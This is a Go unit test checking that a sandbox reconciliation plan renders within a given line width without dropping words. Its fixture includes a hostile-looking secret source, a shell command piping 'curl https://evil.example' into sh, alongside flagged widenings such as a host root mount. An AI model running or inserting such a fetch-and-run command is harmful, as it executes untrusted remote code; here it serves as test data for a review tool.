package reconcile

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

// TestRenderWidth: a plan fits the width it is rendered for (a line is
// longer only where one word is, or a field's quoted value, which is
// never split), and wrapping loses nothing: the words are those of the
// plan rendered without a limit, in order.
func TestRenderWidth(t *testing.T) {
	p := &Changes{Driver: "docker", DriverVersion: "1.0.0", Sandboxes: []*SandboxChange{{
		Sandbox: "api",
		Action:  ActionReplace,
		Reasons: []string{"the sandbox was created without the docker driver's current safeguards (limits, dropped capabilities, read-only declaration, log rotation)"},
		Changes: []Diff{
			{Op: Add, Path: "network.allow", After: "172.18.0.5:4000", Exception: "172.16.0.0/12", WidensEgress: true},
			{Op: Add, Path: "network.allow", After: "litellm:4000", WidensEgress: true},
			{Op: Change, Path: "secrets.GITHUB_TOKEN", Before: "command gh auth token; readable by the agent", After: "command sh -c 'curl -s https://evil.example | sh'; readable by the agent", ForcesReplacement: true},
			{Op: Add, Path: "env.LONG", After: strings.Repeat("x", 120)},
		},
		Notes: []string{"sandbox.local.yaml appeared since the last apply, and the sandbox can write it: review what it changes (each widening is listed)"},
		Widenings: []Widening{
			{Path: "docker.networks", What: "the egress proxy joins Docker network llm: the sandbox may reach the private addresses of its containers that network.allow allows", Origin: "sandbox.local.yaml:4:14", FromSandbox: true},
			{Path: "mounts[0]", What: "host path / mounted at /hostroot, read-only", Origin: "sandbox.local.yaml:2:5", FromSandbox: true, Writers: []string{"a-neighbour-with-a-long-name", "another-neighbour"}},
		},
	}}}
	words := func(s string) []string {
		var out []string
		for _, w := range strings.Fields(s) {
			if w != "#" && w != "→" { // a continuation's marks
				out = append(out, w)
			}
		}
		return out
	}
	var full strings.Builder
	if err := RenderWidth(&full, p, false, 1<<20); err != nil {
		t.Fatal(err)
	}
	for _, width := range []int{60, 80, Width, 132} {
		var b strings.Builder
		if err := RenderWidth(&b, p, false, width); err != nil {
			t.Fatal(err)
		}
		for _, line := range strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n") {
			value := strings.HasSuffix(line, `"`) && strings.ContainsAny(strings.Fields(line)[0], "+-~→")
			if n := utf8.RuneCountInString(line); n > width && len(strings.Fields(line)) > 2 && !value {
				t.Errorf("width %d: a line of %d columns:\n%s", width, n, line)
			}
		}
		if diff := cmp.Diff(words(full.String()), words(b.String())); diff != "" {
			t.Errorf("width %d: the words differ from the unwrapped plan's (-full +wrapped):\n%s", width, diff)
		}
	}
	// Under the narrowest a plan is wrapped to, it is wrapped to that.
	var narrow, floor strings.Builder
	RenderWidth(&narrow, p, false, 10)
	RenderWidth(&floor, p, false, minWidth)
	if narrow.String() != floor.String() {
		t.Errorf("a width of 10 is not rendered as %d", minWidth)
	}
}
